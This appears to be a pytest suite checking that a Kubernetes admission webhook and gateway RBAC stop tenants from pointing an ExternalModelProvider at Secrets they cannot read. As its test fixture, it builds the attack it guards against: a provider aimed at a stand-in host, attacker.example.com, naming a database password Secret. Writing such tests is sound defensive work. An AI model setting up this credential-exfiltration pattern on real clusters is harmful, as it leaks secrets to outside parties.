"""Credentials only by consent (issue #40, item 2), against the real kube-apiserver with RBAC:

* admission asks the API server (a SubjectAccessReview, as the requesting user: name, groups,
  uid, extra) whether the user creating an ExternalModelProvider may get the Secret it names:
  `tenant-a`, who may not read Secrets, is denied at spec.credentialsSecretRef.name; a user the
  RBAC lets get that Secret, by name or through a group, is allowed;
* the gateway sync, as the shipped ServiceAccount with the shipped ClusterRole
  (kustomize/gateway/rbac.yaml), reads a Secret only when its owner labelled it
  gateway.tokenfactory.mirantis.com/litellm-credential=true; an unlabelled one is reported like a
  missing one, and the account cannot `get` a Secret by name at all."""

from __future__ import annotations

import base64
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import kubernetes
import pytest
import yaml

from gateway.apikeys import CONSENT_LABEL, ClusterSecrets, SecretUnavailable
from gateway.merge import SecretRef
from tests.support.builders import external_model_provider, shipped_registry
from tests.support.cluster import Cluster
from tests.support.litellm import ROOT
from tests.support.webhook import Webhook, start_webhook
from webhook.access import ClusterAccess
from webhook.handlers import validate_external_provider
from webhook.review import AdmissionRequest

SYNC_ACCOUNT = "system:serviceaccount:runway-gateway:runway-gateway-sync"
PASSWORD = "platform-db-password-0123456789"


def _secret(namespace: str, name: str, labels: dict[str, str] | None = None) -> dict[str, Any]:
    metadata: dict[str, Any] = {"name": name, "namespace": namespace}
    if labels:
        metadata["labels"] = labels
    return {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": metadata,
        "data": {"password": base64.b64encode(PASSWORD.encode()).decode()},
    }


def _create(cluster: Cluster, *objects: dict[str, Any]) -> None:
    for obj in objects:
        done = cluster.strict_apply(obj)
        assert done.returncode == 0, done.stderr


def _review(namespace: str, user: dict[str, Any], secret: str) -> AdmissionRequest:
    emp = external_model_provider(
        "attacker",
        namespace,
        baseURL="https://attacker.example.com/v1",
        credentialsSecretRef={"name": secret, "key": "password"},
    )
    request: dict[str, Any] = {
        "uid": str(uuid.uuid4()),
        "kind": {
            "group": "gateway.tokenfactory.mirantis.com",
            "version": "v1alpha1",
            "kind": "ExternalModelProvider",
        },
        "operation": "CREATE",
        "namespace": namespace,
        "name": "attacker",
        "object": emp,
        "userInfo": user,
    }
    return request  # type: ignore[return-value]  # the wire shape, userInfo included


def _reader_role(namespace: str, secret: str) -> list[dict[str, Any]]:
    """A Role that may get one Secret, bound to user tenant-b and to group team-x."""
    return [
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "Role",
            "metadata": {"name": "read-db", "namespace": namespace},
            "rules": [
                {
                    "apiGroups": [""],
                    "resources": ["secrets"],
                    "resourceNames": [secret],
                    "verbs": ["get"],
                }
            ],
        },
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": {"name": "read-db", "namespace": namespace},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "read-db"},
            "subjects": [
                {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "tenant-b"},
                {"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "team-x"},
            ],
        },
    ]


def test_admission_asks_whether_the_requesting_user_may_get_the_secret(
    cluster: Cluster, namespace: str
) -> None:
    _create(cluster, _secret(namespace, "platform-db"), *_reader_role(namespace, "platform-db"))
    access = ClusterAccess(cluster.api_client)
    registry = shipped_registry()
    authenticated = ["system:authenticated"]

    def answer(user: dict[str, Any], secret: str = "platform-db") -> tuple[bool, str]:
        response = validate_external_provider(
            _review(namespace, user, secret),
            registry,
            access=access,
        ).response
        return response["allowed"], response.get("status", {}).get("message", "")

    denial = (
        'spec.credentialsSecretRef.name: Forbidden: user "{user}" may not get Secret '
        f"{namespace}/{{secret}}; a provider can only use a Secret its creator may read"
    )
    assert answer({"username": "tenant-a", "groups": authenticated}) == (
        False,
        denial.format(user="tenant-a", secret="platform-db"),
    )
    assert answer({"username": "tenant-b", "groups": authenticated}) == (True, "")
    assert answer({"username": "carol", "groups": [*authenticated, "team-x"]}) == (True, "")
    assert answer(
        {"username": "carol", "uid": "u-1", "groups": authenticated, "extra": {"scopes": ["x"]}}
    ) == (False, denial.format(user="carol", secret="platform-db"))
    # The Role names one Secret: another in the same namespace stays out of reach.
    assert answer({"username": "tenant-b", "groups": authenticated}, "other-secret") == (
        False,
        denial.format(user="tenant-b", secret="other-secret"),
    )


@pytest.fixture
def sync_api(cluster: Cluster) -> Iterator[kubernetes.client.ApiClient]:
    """A client acting as the sync's ServiceAccount, with the shipped gateway RBAC applied."""
    rbac = [
        d
        for d in yaml.safe_load_all((ROOT / "kustomize" / "gateway" / "rbac.yaml").read_text())
        if d and d["kind"] in ("ClusterRole", "ClusterRoleBinding")
    ]
    _create(cluster, *rbac)
    client = cluster.api_client()
    client.set_default_header("Impersonate-User", SYNC_ACCOUNT)
    try:
        yield client
    finally:
        client.close()


def test_the_sync_reads_only_labelled_secrets(
    cluster: Cluster, namespace: str, sync_api: kubernetes.client.ApiClient
) -> None:
    _create(
        cluster,
        _secret(namespace, "platform-db"),
        _secret(namespace, "consented", {CONSENT_LABEL: "true"}),
        _secret(namespace, "said-no", {CONSENT_LABEL: "false"}),
    )
    secrets = ClusterSecrets(sync_api)

    def value(name: str) -> str:
        try:
            return secrets.value(SecretRef(namespace, name, "password"))
        except SecretUnavailable as err:
            return str(err)

    def refused(name: str) -> str:
        return (
            f"Secret {namespace}/{name} not found, or not labelled {CONSENT_LABEL}=true (a "
            "Secret is sent to LiteLLM only when its owner labels it so)"
        )

    assert [value(n) for n in ("consented", "platform-db", "said-no", "absent")] == [
        PASSWORD,
        refused("platform-db"),
        refused("said-no"),
        refused("absent"),
    ]
    with pytest.raises(kubernetes.client.ApiException) as raised:
        kubernetes.client.CoreV1Api(sync_api).read_namespaced_secret("platform-db", namespace)
    assert raised.value.status == 403


SAR_LABEL = {"runway.test/secret-access": "enabled"}


@pytest.fixture
def connected_webhook(cluster: Cluster, tmp_path: Path) -> Iterator[Webhook]:
    """`runway serve --kubeconfig` (a cluster connection: access reviews on), registered as the
    ExternalModelProvider validating webhook for namespaces labelled SAR_LABEL."""
    server = start_webhook(tmp_path, args=["--kubeconfig", str(cluster.kubeconfig)])
    config = {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": "runway-test-secret-access"},
        "webhooks": [
            {
                "name": "validate.externalmodelproviders.gateway.tokenfactory.mirantis.com",
                "clientConfig": {
                    "url": f"{server.url}/validate-externalmodelprovider",
                    "caBundle": base64.b64encode((server.certs / "ca.crt").read_bytes()).decode(),
                },
                "rules": [
                    {
                        "apiGroups": ["gateway.tokenfactory.mirantis.com"],
                        "apiVersions": ["v1alpha1"],
                        "resources": ["externalmodelproviders"],
                        "operations": ["CREATE", "UPDATE"],
                    }
                ],
                "failurePolicy": "Fail",
                "sideEffects": "None",
                "timeoutSeconds": 10,
                "admissionReviewVersions": ["v1"],
                "namespaceSelector": {"matchLabels": SAR_LABEL},
            }
        ],
    }
    try:
        _create(cluster, config)
        yield server
    finally:
        cluster.kubectl(
            "delete",
            "validatingwebhookconfiguration/runway-test-secret-access",
            "--ignore-not-found",
            check=False,
        )
        assert server.stop() == 0


def test_a_tenant_who_cannot_read_the_secret_cannot_create_a_provider_naming_it(
    cluster: Cluster, namespace: str, connected_webhook: Webhook
) -> None:
    """The issue's attack, through the API server: `tenant-a` may create ExternalModelProviders
    but not read Secrets; `kubectl --as tenant-a` is denied at admission, `--as tenant-b` (who
    may get that Secret) is allowed."""
    cluster.kubectl("label", "namespace", namespace, "runway.test/secret-access=enabled")
    creators = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {"name": "create-emps", "namespace": namespace},
        "rules": [
            {
                "apiGroups": ["gateway.tokenfactory.mirantis.com"],
                "resources": ["externalmodelproviders"],
                "verbs": ["create", "get", "patch"],
            }
        ],
    }
    binding = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": "create-emps", "namespace": namespace},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "create-emps"},
        "subjects": [
            {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}
            for user in ("tenant-a", "tenant-b")
        ],
    }
    _create(
        cluster,
        _secret(namespace, "platform-db"),
        *_reader_role(namespace, "platform-db"),
        creators,
        binding,
    )
    emp = external_model_provider(
        "attacker",
        namespace,
        baseURL="https://attacker.example.com/v1",
        credentialsSecretRef={"name": "platform-db", "key": "password"},
    )

    def create_as(user: str) -> tuple[int, str]:
        done = cluster.kubectl(
            "create", "--as", user, "-f", "-", stdin=yaml.safe_dump(emp), check=False
        )
        return done.returncode, done.stderr.strip()

    assert create_as("tenant-a") == (
        1,
        'Error from server: error when creating "STDIN": admission webhook '
        '"validate.externalmodelproviders.gateway.tokenfactory.mirantis.com" denied the request: '
        'spec.credentialsSecretRef.name: Forbidden: user "tenant-a" may not get Secret '
        f"{namespace}/platform-db; a provider can only use a Secret its creator may read",
    )
    assert create_as("tenant-b") == (0, "")
